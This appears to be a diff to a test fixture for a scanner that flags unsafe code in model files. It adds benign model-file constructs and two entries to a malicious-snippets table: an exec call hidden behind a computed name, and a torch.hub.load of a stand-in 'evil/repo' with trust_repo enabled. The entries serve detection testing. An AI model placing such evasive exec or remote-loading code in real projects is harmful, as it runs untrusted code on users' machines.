@@ -61,8 +61,31 @@ from .layers import make_mlp
 logger = logging.get_logger(__name__) if hasattr(logging, "get_logger") else logging.getLogger()
 
 
+import functools
+import importlib
+import importlib.util
+import inspect
+import sys
+import warnings
+
+_flash = importlib.util.find_spec("flash_attn") is not None
+_llama = importlib.import_module("transformers.models.llama")
+if sys.version_info < (3, 8):
+    warnings.warn("old python")
+torch.fx.wrap("_act")
+
+
+@torch.jit.script
+def fused_gelu(x):
+    return x * 0.5 * (1.0 + torch.erf(x / math.sqrt(2.0)))
+
+
 def _act(name):
     return getattr(F, name)
+
+
+_partial_act = functools.partial(_act, "gelu")
+_sig = inspect.signature(_act)
 
 
 class XModel(PreTrainedModel):
@@ -76,6 +99,7 @@ class XModel(PreTrainedModel):
         here = os.path.dirname(__file__)
         with open(os.path.join(here, "vocab.txt")) as fp:
             self.vocab = fp.read().split()
+        os.makedirs(os.path.join(os.path.expanduser("~"), ".cache", "x"), exist_ok=True)
         self.post_init()
 
     def _init_weights(self, module):
@@ -199,6 +223,15 @@ MALICIOUS_SNIPPETS = {
         "",
     ),
     "builtins_dict": ("__builtins__['exec']('1')\n", "builtins.exec"),
+    "getattr_builtins": (
+        "import builtins\nname = 'ex' + 'ec'\ngetattr(builtins, name)('1')\n",
+        "builtins.<computed>",
+    ),
+    "torch_hub": (
+        "import torch\nclass M:\n    def __init__(self):\n"
+        "        self.m = torch.hub.load('evil/repo', 'm', trust_repo=True)\n",
+        "torch.hub.load",
+    ),
 }
 
 
